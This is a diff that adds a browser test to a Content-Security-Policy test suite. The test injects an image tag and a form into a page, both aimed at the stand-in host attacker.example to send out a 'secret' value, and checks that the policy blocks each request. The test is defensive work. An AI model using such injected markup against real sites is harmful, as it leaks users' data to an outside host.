@@ -106,6 +106,23 @@ describe("Content-Security-Policy on pages with scripts", () => {
     await page.close();
   });
 
+  it("lets markup put into a page send nothing out, by a picture's address or a form's", async () => {
+    expectFailures(/violates the following Content Security Policy/);
+    const page = await browser.newPage();
+    const refusals = await watchRefusals(page);
+    const injected = `<img src="https://attacker.example/p.png?read=secret" alt=""><form id="out" method="post" action="https://attacker.example/collect"><input name="read" value="secret"></form>`;
+    await page.route(`${baseUrl()}/clearpath-access/about`, async (route) => {
+      const answer = await route.fetch();
+      await route.fulfill({ response: answer, body: (await answer.text()).replace("</main>", `${injected}</main>`) });
+    });
+    await page.goto(baseUrl() + "/clearpath-access/about");
+    // Sent as pressing Enter in it would send it.
+    await page.locator("#out").evaluate((form: HTMLFormElement) => form.requestSubmit());
+    await expect.poll(async () => (await refusals()).map((line) => line.split(" ")[0]).sort()).toEqual(["form-action", "img-src"]);
+    expect(page.url()).toBe(`${baseUrl()}/clearpath-access/about`);
+    await page.close();
+  });
+
   it("runs the admin's scripts with no refusal", async () => {
     const context = await browser.newContext();
     await context.addCookies([{ ...(await operatorCookie()), url: baseUrl() }]);
